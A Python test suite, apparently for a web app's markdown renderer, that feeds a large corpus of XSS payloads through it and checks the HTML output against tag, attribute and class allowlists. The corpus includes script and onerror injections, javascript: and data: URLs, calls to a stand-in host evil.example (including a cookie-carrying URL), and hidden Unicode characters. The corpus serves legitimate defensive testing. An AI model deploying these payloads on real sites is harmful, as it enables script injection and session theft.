"""No text, however it was made, loads, moves, runs or pretends anything on the page that shows it.

The assertions read the HTML with another parser than the one that wrote it, against lists that are
written here again on purpose.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from preferences.text.rendering import render
from tests.support.chosen import ALL

ALLOWED: dict[str, set[str]] = {
    **{tag: {"dir"} for tag in ("li", "h4", "h5", "h6", "pre")},
    **{tag: {"dir", "class"} for tag in ("p", "th", "td")},
    **{tag: set() for tag in ("blockquote", "br", "code", "em", "hr", "s", "strong", "ul")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tr")},
    "div": {"class", "role", "tabindex", "aria-label"},
    "ol": {"start"},
    "span": {"class", "title"},
}
OURS = "align-center align-end code-label hidden-character image link link-address literal masked "
CODE = "maths no-answer scroll c cp gd gh gi gp k kc kt m na nb nc nd nf nt nv s"
CLASSES = set((OURS + CODE).split())
VOID = {"br", "hr"}
INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u00ad\U000e0000-\U000e007f]")


class Page(HTMLParser):
    """Reads HTML and refuses whatever is not on the lists above."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""
        self.classes: set[str] = set()
        self.feed(html)
        self.close()
        assert not self.open, f"never closed: {self.open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        assert {name for name, _ in attrs} <= ALLOWED[tag], (tag, attrs)
        for name, value in attrs:
            self.check(name, value or "")
        if tag not in VOID:
            self.open.append(tag)

    def check(self, name: str, value: str) -> None:
        if name == "class":
            self.classes.update(value.split())
            assert self.classes <= CLASSES, value
        elif name == "title":
            assert re.fullmatch(r"U\+[0-9A-F]{4,6} [\w ,+…<>()-]*", value), value
        else:
            fixed = {"dir": {"auto", "ltr"}, "role": {"group"}, "tabindex": {"0"}}
            fixed["aria-label"] = {"Code", "Table"}
            assert value in fixed.get(name, {value}), (name, value)
            assert name != "start" or value.isdigit()

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def refuse(self, data: str) -> None:
        pytest.fail(f"neither text nor element: {data!r}")

    handle_comment = handle_decl = handle_pi = unknown_decl = refuse  # type: ignore[assignment]


def page(text: str, **options: tuple[str, ...]) -> Page:
    read = Page(render(text, **options).html)
    assert not INVISIBLE.search(read.text)
    return read


TAGS = [
    *"""
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<ScRiPt>alert(1)
<img src=x onerror=alert(1)>
<img src=//evil.example/pixel.gif>
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href=javascript:a>x
<svg><animate attributeName=href values=javascript:alert(1)>
<svg><use href=data:x#x>
<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>
<math href=javascript:alert(1)>x</math>
<iframe src=javascript:alert(1)>
<iframe srcdoc='<script>alert(1)</script>'>
<object data=data:text/html,x>
<embed src=x>
<meta http-equiv=refresh content=0;url=//evil.example>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import'//evil.example';</style>
<p style=background:url(//evil.example)>x</p>
<div style=position:fixed;inset:0>x</div>
<form action=//evil.example><input name=csrf><button>Vote</button></form>
<input autofocus onfocus=a>
<a href=javascript:alert(1)>x</a>
<a href=//evil.example ping=//evil.example>x</a>
<video src=//evil.example><source src=x onerror=a></video>
<audio autoplay src=x onloadstart=a>
<details open ontoggle=alert(1)>
<dialog open>Signed out</dialog>
<template><img src=x></template>
<body onload=alert(1)>
<html manifest=//evil.example>
<marquee onstart=alert(1)>
<noscript><p title='</noscript><img src=x onerror=a>'>
<textarea></textarea><script>a</script>
<title></title><script>a</script>
<xmp><script>a</script></xmp>
<plaintext>
<frameset onload=a>
<!--><script>alert(1)</script>
<!-- comment -->
<![CDATA[<script>a</script>]]>
<?php echo 1 ?>
<!DOCTYPE html>
</p></div></article><h1>Results</h1>
</span></code></pre><script>a</script>
<x onclick=a>x
<b id=vote name=vote class=button hx-get=/x hx-trigger=load>x</b>
<slot name=x>
<img src=`x`onerror=a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;a&#60;/script&#62;
+ADw-script+AD4-alert(1)
%3Cscript%3Ea%3C/script%3E
""".strip().splitlines(),
    "<img \x00src=x>",
    "<\x00script>a</script>",
    "<scr\x00ipt>",
    "<a\thref\n=\njavascript:a>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufeff<script>a</script>",
    "<script\u200b>a</script>",
]
ADDRESSES = [
    *"""
javascript:alert(1)
JaVaScRiPt:alert(1)
&#106;avascript:alert(1)
&#x6A;avascript&colon;alert(1)
javascript&#58;alert(1)
%6Aavascript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>a</script>
data:image/svg+xml;base64,PHN2Zz4=
data:image/png;base64,iVBORw0KGgo=
file:///etc/passwd
blob:https://x/1
view-source:javascript:a
//evil.example/x
https://evil.example/x.gif?cookie=1
/logout
#vote
?choice=2
https://evil.example" onclick="a
https://user:secret@evil.example
https://xn--e1afmkfd.example
http://[::1]/
mailto:a@b.example
""".strip().splitlines(),
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:a",
    "https://\u0430pple.com",
]
LINKS = [
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "[![i]({})]({})", "{}",
    '[x]({} "t<b>")',
]  # fmt: skip
WRAPPINGS = [
    "{}", "> {}", "- a\n\n  {}", "**{}**", "# {}", "`{}`", "```html\n{}\n```", "```{}\nx\n```",
    "    {}", "| a |\n|---|\n| {} |", "~~{}", "[{}](https://example.org)", "![{}](x)", "${}$",
    "\\({}\\)",
]  # fmt: skip
UNSEEN = [
    "\u202e", "\u202d\u202c", "\u2066\u2069", "\u200b", "\u200c", "\u200d", "\u200e\u200f",
    "\u061c", "\u2060\ufeff", "\xad", "\u180e", "\u115f\u1160", "\u3164", "\uffa0",
    "\ufe00\ufe01", "\ufe0f\ufe0f", "\U000e0041\U000e0042", "\U000e0100", "\x00", "\x07\x08",
    "\x1b[31m", "\x7f", "\x85\x9f", "\u2028\u2029", "\ufdd0\ufffe", "\ufffa\ufffb", "&#x202e;",
    "&#8203;", "&ZeroWidthSpace;", "&shy;", "\ud800", "\udc00\ud800",
    "Z" + "\u0301" * 200, "\u20dd" * 50,
]  # fmt: skip


def corpus() -> Iterator[str]:
    yield from TAGS
    yield from (link.replace("{}", address) for link, address in product(LINKS, ADDRESSES))
    yield from (wrap.replace("{}", tag) for wrap, tag in product(WRAPPINGS, TAGS))
    yield from (wrap.replace("{}", f"a{unseen}b") for wrap, unseen in product(WRAPPINGS, UNSEEN))
    yield from (f"<{unseen}img src=x onerror=a>" for unseen in UNSEEN)
    yield from (f"[x](java{unseen}script:alert(1))" for unseen in UNSEEN)


CORPUS = list(dict.fromkeys(corpus()))


def test_the_corpus_is_large_enough_to_mean_something() -> None:
    assert len(CORPUS) >= 200


@pytest.mark.parametrize("start", range(0, len(CORPUS), 50))
def test_nothing_in_the_corpus_becomes_more_than_text(start: int) -> None:
    for payload in CORPUS[start : start + 50]:
        for masks in ((), ("x",), ("script", "evil")):
            page(payload, masks=masks)


@pytest.mark.parametrize("tag", [tag for tag in TAGS if tag.isascii() and tag.isprintable()])
def test_html_is_shown_as_the_text_it_is(tag: str) -> None:
    words = re.findall(r"\w+", page(tag).text)
    assert words[:1] == re.findall(r"\w+", tag.replace("&lt;", "").replace("&#60;", ""))[:1]


@pytest.mark.parametrize("address", [one for one in ADDRESSES if "script" in one or ":text" in one])
@pytest.mark.parametrize("link", ["[x]({})", "![x]({})", "[x](<{}>)"])
def test_an_address_that_runs_is_not_even_shown_as_one(link: str, address: str) -> None:
    shown = page(link.replace("{}", address))
    if "link-address" in shown.classes:
        assert "(address removed)" in shown.text


@pytest.mark.parametrize("unseen", UNSEEN)
def test_hidden_characters_leave_a_mark(unseen: str) -> None:
    rendered = render(f"harm{unseen}less")
    assert rendered.flagged_characters or "\ufffd" in rendered.html
    if rendered.flagged_characters and "\ud800" not in unseen:
        assert 'class="hidden-character"' in rendered.html


@given(st.text(max_size=400))
def test_any_text_at_all_is_safe(text: str) -> None:
    page(text)


MARKS = [
    *"<>&\"'`*_[]()!#|~$\\:-\n \t\u202e\x00",
    "](",
    "```",
    "<a ",
    "on",
    "href=",
    "&#",
    "> ",
    "|-|",
]


@given(st.lists(st.sampled_from(MARKS), max_size=60))
def test_any_heap_of_marks_is_safe(pieces: list[str]) -> None:
    page("".join(pieces))


HEAPS = [
    "[", "![", "[![", "*[a", "*a*", "**a ", "*_", "~~a", "`a", "<a", "<!--", "<![CDATA[", "&#",
    "> ", "- ", "1. ", "  - a\n", "[a](", "[x]: a\n", "|a", "a|b\n-|-\n", "$a", "$$a\n", "\\(a",
    "\u200b", "a\u202e", "Z\u0301\u0301", "I am ", "as a ", "gpt-4.", "vicuna ", "```python\n",
    "# a\n", "<br>", "\n\n", "\u200d", "\U0001f469\u200d",
]  # fmt: skip


# Those that take longest are as long as a prompt may be in every run.
WORST = ("![", "[![", "a|b\n-|-\n")


@pytest.mark.parametrize("heap", HEAPS)
def test_kilobytes_of_one_mark_are_shown(heap: str) -> None:
    size = 64 if ALL or heap in WORST else 8
    text = heap * (size * 1024 // len(heap))
    shown = page(text, masks=("vicuna-13b",))
    assert len(shown.text.strip()) > 0


@pytest.mark.parametrize("levels", [10, 39, 40, 41, 500])
@pytest.mark.parametrize("nest", ["> ", "- ", "1. "])
def test_what_is_nested_too_deeply_is_still_there(nest: str, levels: int) -> None:
    assert "the innermost" in page(nest * levels + "the innermost").text


LANGUAGES = ["python", "javascript", "html", "c++", "perl", "markdown", "sql", "yaml", "make"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_code_that_is_hard_to_read_is_shown_whole(language: str) -> None:
    for heap in ('"', "'", "/*", "(", "{", "<", "\\", "`", "#", "$(", "@", "a.", "=~ s/", "<<E\n"):
        code = f"{heap * 60}\n" * (12_000 // (60 * len(heap)))
        assert page(f"~~~~{language}\n{code}\n~~~~").text.count(heap) >= code.count(heap)
